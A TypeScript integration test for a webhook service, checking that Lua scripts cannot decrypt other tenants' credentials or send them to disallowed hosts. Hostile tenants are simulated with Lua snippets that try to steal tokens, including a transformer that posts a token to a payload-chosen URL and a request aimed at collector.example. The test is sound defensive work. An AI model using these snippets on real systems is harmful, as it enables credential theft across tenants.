import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../core/ports/logger';
import { runCredentials } from '../../workers/cli/credentials';
import { deadLetterOf } from '../helpers/dead-letters';
import { waitFor } from '../helpers/env';
import { startTestFleet, type TestFleet } from '../helpers/fleet';
import { redisLeaks, topicLeaks } from '../helpers/leak-scan';
import { startReceiver, type Received, type Receiver } from '../helpers/receiver';
import { useRedisDb } from '../helpers/redis-db';

// Hostile tenants with ordinary API keys against Lua credentials, on real Kafka + Redis (a db of its own)
// with API keys on: credentials are scoped to namespaces (a script of another namespace gets
// nil, err), a request that used one only goes to its hosts (else it dead-letters, nothing is
// sent), the script test route never shows a plaintext, and a parent's script reaches child
// configs only when it opts in. No plaintext reaches a receiver it was not meant for, a topic,
// Redis or a log line.

const rand = () => Math.random().toString(36).slice(2, 10);
const A_SECRET = `a-secret-${rand()}${rand()}`;
const B_SECRET = `b-secret-${rand()}${rand()}`;
const WH_SECRET = `wh-secret-${rand()}${rand()}`;
const T_SECRET = `t-secret-${rand()}${rand()}`;
const SECRETS = [A_SECRET, B_SECRET, WH_SECRET, T_SECRET];
const redisDb = useRedisDb();

const cli = async (argv: string[], stdin: string, env: Record<string, string>) => {
  const out: string[] = [];
  const code = await runCredentials(argv, { out: (s) => out.push(s), err: () => {} }, async () => stdin, env);
  expect(code).toBe(0);
  return out.join('\n');
};

describe('Lua credentials against config-bound keys (kafka)', () => {
  let f: TestFleet;
  let rx: Receiver;
  let dir: string;
  const logs: string[] = [];
  const keys: Record<string, string> = {};
  const bearer = (k: string) => ({ authorization: `Bearer ${keys[k]}` });

  beforeAll(async () => {
    const key = Buffer.from(crypto.getRandomValues(new Uint8Array(32))).toString('base64');
    const env = { HOWK_LUA_CRYPTO_SC1: key };
    const enc = (name: string, secret: string, namespaces: string, hosts: string) =>
      cli(['encrypt', '--name', name, '--key-id', 'SC1', '--namespaces', namespaces, '--hosts', hosts], secret, env);
    const credentials = {
      // tenant-a's own credential, for its receiver (127.0.0.1).
      a_token: await enc('a_token', A_SECRET, 'tenant-a', '127.0.0.1'),
      // tenant-b's, for a partner host that is not the test receiver.
      b_token: await enc('b_token', B_SECRET, 'tenant-b', 'api.partner.invalid'),
      // The parent's: opened by scripts stored on wh (also when applied to children), for the parent's partner only.
      wh_token: await enc('wh_token', WH_SECRET, 'wh', 'api.partner.invalid'),
      // A transformer's, for its partner only.
      t_token: await enc('t_token', T_SECRET, 'incoming:leak', 'api.partner.invalid'),
    };
    dir = await mkdtemp(join(tmpdir(), 'howk-cred-scope-'));
    await writeFile(
      join(dir, 'leak.lua'),
      `local t = assert(crypto.decrypt_credential('t_token'))
      assert(howk.post(request.payload.to, { n = 1 }, { headers = { ['X-T'] = t } }))`,
    );
    process.env.HOWK_LUA_CRYPTO_SC1 = key;
    rx = await startReceiver();
    f = await startTestFleet('kafka', {
      redisDb: redisDb(),
      log: createLogger('test', 'debug', (l) => logs.push(l)),
      overrides: { 'api.auth.enabled': true, 'lua.credentials': credentials, 'lua.http_allowlist': { 'tenant-b': ['127.0.0.1'] }, 'transformer.script_dirs': [dir] },
    });
    await f.fleet.security!.ready;
    const make = async (name: string, scopes: ('enqueue' | 'read' | 'admin')[], config_ids: string[] | null) => {
      keys[name] = (await f.fleet.security!.keys!.create({ name, scopes, config_ids })).key;
    };
    await make('root', ['admin'], null);
    await make('a', ['admin'], ['tenant-a']);
    await make('b', ['admin'], ['tenant-b']);
    await make('wh', ['admin'], ['wh']);
    await make('child', ['enqueue'], ['wh:42']);
    await make('childadmin', ['admin'], ['wh:42']);
  });
  afterAll(async () => {
    await f?.stop();
    await rx?.close();
    delete process.env.HOWK_LUA_CRYPTO_SC1;
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const put = (key: string, config: string, script: string, children = false) =>
    fetch(`${f.baseUrl}/config/${config}/script${children ? '?apply_to_children=true' : ''}`, {
      method: 'PUT',
      headers: { 'content-type': 'text/plain', ...bearer(key) },
      body: script,
    });
  const enqueue = async (key: string, config: string, body: unknown): Promise<string> => {
    const res = await f.post(`/webhooks/${config}/enqueue`, body, bearer(key));
    const json = (await res.json()) as any;
    expect(res.status, JSON.stringify(json)).toBe(202);
    return json.webhook_id;
  };
  const status = async (id: string) => (await (await fetch(`${f.baseUrl}/webhooks/${id}/status`, { headers: bearer('root') })).json()) as any;

  /**
   * Enqueues to the receiver until a webhook dead-letters: the stored script reaches the
   * worker through howk.scripts, and webhooks before that are delivered unscripted.
   */
  const deadOnceScripted = (key: string, config: string, prefix: string) => {
    let n = 0;
    return waitFor(
      async () => {
        const id = await enqueue(key, config, { endpoint: rx.url(`${prefix}-${++n}`), payload: {} });
        const s = await waitFor(
          async () => {
            const x = await status(id);
            return x.state === 'failed' || x.state === 'delivered' ? x : undefined;
          },
          { what: `outcome of ${id}` },
        );
        return s.state === 'failed' ? { id, s } : undefined;
      },
      { what: `a dead letter on ${config}`, intervalMs: 200 },
    );
  };

  /**
   * Enqueues to the receiver until a delivery shows the stored script ran (`scripted`): the
   * script reaches the worker through howk.scripts, and deliveries before that are unscripted.
   */
  const deliveredOnceScripted = (key: string, config: string, prefix: string, scripted: (r: Received) => boolean, what: string, payload: (n: number) => unknown = () => ({})) => {
    let n = 0;
    return waitFor(
      async () => {
        const path = `${prefix}-${++n}`;
        await enqueue(key, config, { endpoint: rx.url(path), payload: payload(n) });
        const r = await waitFor(() => rx.received.find((x) => x.path === path), { what: path });
        return scripted(r) ? r : undefined;
      },
      { what, intervalMs: 200 },
    );
  };

  it("the script test route: only on the key's own configs, and another namespace's credential is nil, err", async () => {
    const script = `
      local v, err = crypto.decrypt_credential('b_token')
      request.headers['X-Stolen'] = v or ('refused: ' .. err)`;
    const other = await f.post('/config/tenant-b/script/test', { payload: {}, script }, bearer('a'));
    expect(other.status).toBe(403);
    const res = await f.post('/config/tenant-a/script/test', { payload: {}, script }, bearer('a'));
    const text = await res.text();
    expect(res.status, text).toBe(200);
    expect(JSON.parse(text).request.headers['x-stolen']).toBe('refused: credential b_token is not available to namespace tenant-a');
    expect(text).not.toContain(B_SECRET);
  });

  it("a stored delivery script run by the worker cannot read another namespace's credential", async () => {
    expect(
      (
        await put(
          'a',
          'tenant-a',
          `
      local v, err = crypto.decrypt_credential('b_token')
      request.headers['X-Stolen'] = v or ('refused: ' .. err)
      request.body = json.encode({ stolen = v or json.null })`,
        )
      ).status,
    ).toBe(200);
    // The script reaches the worker through howk.scripts: retry until a delivery carries it.
    const got = await deliveredOnceScripted(
      'a',
      'tenant-a',
      '/a-steal',
      (r) => Boolean(r.headers['x-stolen']),
      'a delivery with the script applied',
      (n) => ({ n }),
    );
    expect(got.headers['x-stolen']).toBe('refused: credential b_token is not available to namespace tenant-a');
    expect(JSON.parse(got.body.toString())).toEqual({ stolen: null });
  });

  it('a credential is sent to its own hosts, and a request to any other host is dead-lettered unsent', async () => {
    // tenant-a's credential may go to 127.0.0.1: delivered.
    expect((await put('a', 'tenant-a', `request.headers['Authorization'] = 'Bearer ' .. assert(crypto.decrypt_credential('a_token'))`)).status).toBe(200);
    const ok = await deliveredOnceScripted('a', 'tenant-a', '/a-own', (r) => Boolean(r.headers.authorization), 'a delivery with the new script');
    expect(ok.headers.authorization).toBe(`Bearer ${A_SECRET}`);
    // tenant-b's may only go to api.partner.invalid: its own key cannot point it at 127.0.0.1.
    expect((await put('b', 'tenant-b', `request.headers['Authorization'] = 'Bearer ' .. assert(crypto.decrypt_credential('b_token'))`)).status).toBe(200);
    const { id, s } = await deadOnceScripted('b', 'tenant-b', '/b-exfil');
    expect(s.dead_reason).toBe('credential_host_not_allowed');
    const dl = await waitFor(() => deadLetterOf(f, id), { what: 'dead letter record' });
    expect(dl.reason).toBe('credential not allowed for this destination: credential b_token may not be sent to 127.0.0.1');
    expect(rx.received.filter((r) => r.path.startsWith('/b-exfil') && r.headers.authorization !== undefined)).toHaveLength(0);
  });

  it('the script test route never returns a plaintext, in any output or encoding, and says where it would be refused', async () => {
    const script = `
      local t = assert(crypto.decrypt_credential('b_token'))
      request.headers['Authorization'] = 'Bearer ' .. t
      request.headers['X-B64'] = 'Basic ' .. base64.encode('user:' .. t)
      request.body = json.encode({ token = t })`;
    const res = await f.post('/config/tenant-b/script/test', { payload: {}, script, endpoint: 'https://collector.example/x' }, bearer('b'));
    const text = await res.text();
    expect(res.status, text).toBe(200);
    const b = JSON.parse(text);
    expect(b.request.headers.authorization).toBe('[redacted]');
    expect(b.request.headers['x-b64']).toBe('[redacted]');
    expect(b.request.body).toBe('[redacted]');
    expect(b.credentials_used).toEqual(['b_token']);
    expect(b.refused).toEqual({ reason_type: 'credential_host_not_allowed', message: 'credential b_token may not be sent to collector.example' });
    const err = await f.post('/config/tenant-b/script/test', { payload: {}, script: `error('leak ' .. crypto.decrypt_credential('b_token'))` }, bearer('b'));
    const errText = await err.text();
    expect(err.status).toBe(422);
    expect(JSON.parse(errText).error.message).toBe('[redacted]');
    for (const t of [text, errText]) {
      expect(t).not.toContain(B_SECRET);
      expect(t).not.toContain(Buffer.from(`user:${B_SECRET}`).toString('base64'));
    }
  });

  it("once a run opened a credential, its http calls and a transformer's posts only reach that credential's hosts", async () => {
    const script = `
      local before = assert(http.get('${rx.url('/b-http-before')}'))
      local t = assert(crypto.decrypt_credential('b_token'))
      local r, err = http.get('${rx.url('/b-http-after')}', { headers = { authorization = 'Bearer ' .. t } })
      request.headers['X-Before'] = before.status
      request.headers['X-After'] = tostring(r) .. ' ' .. err`;
    const res = await f.post('/config/tenant-b/script/test', { payload: {}, script }, bearer('b'));
    const b = (await res.json()) as any;
    expect(res.status, JSON.stringify(b)).toBe(200);
    expect(b.request.headers['x-before']).toBe('200');
    expect(b.request.headers['x-after']).toBe('nil credential_host_not_allowed: credential b_token may not be sent to 127.0.0.1');
    expect(rx.received.filter((r) => r.path === '/b-http-before')).toHaveLength(1);
    expect(rx.received.filter((r) => r.path === '/b-http-after')).toHaveLength(0);
    // A transformer that opened its credential cannot post it to the receiver: 422, nothing enqueued.
    const inc = await f.post('/incoming/leak', { to: rx.url('/t-exfil') });
    const text = await inc.text();
    expect(inc.status, text).toBe(422);
    expect(JSON.parse(text).error).toMatchObject({ code: 'credential_host_not_allowed', message: 'credential t_token may not be sent to 127.0.0.1' });
    expect(topicLeaks(f, '/t-exfil')).toEqual([]);
  });

  it("a child config's enqueue-only key cannot get the parent's credential sent to its own endpoint", async () => {
    const script = `request.headers['Authorization'] = 'Bearer ' .. assert(crypto.decrypt_credential('wh_token'))`;
    // A parent script that does not opt in does not run for wh:42 at all.
    expect((await put('wh', 'wh', script)).status).toBe(200);
    let n = 0;
    await waitFor(
      async () => {
        const path = `/child-plain-${++n}`;
        await enqueue('child', 'wh:42', { endpoint: rx.url(path), payload: {} });
        return waitFor(() => rx.received.find((x) => x.path === path), { what: path });
      },
      { what: 'an unscripted child delivery' },
    );
    expect(rx.received.filter((r) => r.path.startsWith('/child-plain')).every((r) => r.headers.authorization === undefined)).toBe(true);
    // Opted in: the script runs for the child, but the parent's credential only goes to the parent's partner.
    expect((await put('wh', 'wh', script, true)).status).toBe(200);
    const { s: dead } = await deadOnceScripted('child', 'wh:42', '/child-exfil');
    expect(dead.dead_reason).toBe('credential_host_not_allowed');
    expect(rx.received.filter((r) => r.path.startsWith('/child-exfil')).every((r) => r.headers.authorization === undefined)).toBe(true);
    // The child's own script (an admin key of wh:42) cannot open the parent's credential at all.
    expect(
      (
        await put(
          'childadmin',
          'wh:42',
          `
      local v, err = crypto.decrypt_credential('wh_token')
      request.headers['X-Stolen'] = v or ('refused: ' .. err)`,
        )
      ).status,
    ).toBe(200);
    // Until the new script reaches the worker, the parent's still runs (and dead-letters).
    let m = 0;
    const own = await waitFor(
      async () => {
        const path = `/child-own-${++m}`;
        const id = await enqueue('childadmin', 'wh:42', { endpoint: rx.url(path), payload: {} });
        const st = await waitFor(
          async () => {
            const x = await status(id);
            return x.state === 'failed' || x.state === 'delivered' ? x.state : undefined;
          },
          { what: `outcome of ${id}` },
        );
        return st === 'delivered' ? rx.received.find((y) => y.path === path) : undefined;
      },
      { what: "the child's own script", intervalMs: 200 },
    );
    expect(own.headers['x-stolen']).toBe('refused: credential wh_token is not available to namespace wh:42');
  });

  it('no receiver, topic, Redis key or log line holds a plaintext it was not meant for', async () => {
    // Positive controls: the scans see what is there.
    expect(rx.received.some((r) => JSON.stringify(r.headers).includes(A_SECRET))).toBe(true);
    expect(topicLeaks(f, '/b-exfil').length).toBeGreaterThan(0);
    expect((await redisLeaks(redisDb(), '/b-exfil')).found.length).toBeGreaterThan(0);
    for (const secret of [B_SECRET, WH_SECRET]) {
      expect(rx.received.filter((r) => JSON.stringify(r.headers).includes(secret) || r.body.toString().includes(secret))).toEqual([]);
    }
    for (const secret of SECRETS) {
      expect(topicLeaks(f, secret), secret).toEqual([]);
      expect((await redisLeaks(redisDb(), secret)).found, secret).toEqual([]);
      expect(
        logs.filter((l) => l.includes(secret)),
        secret,
      ).toEqual([]);
    }
  });
});
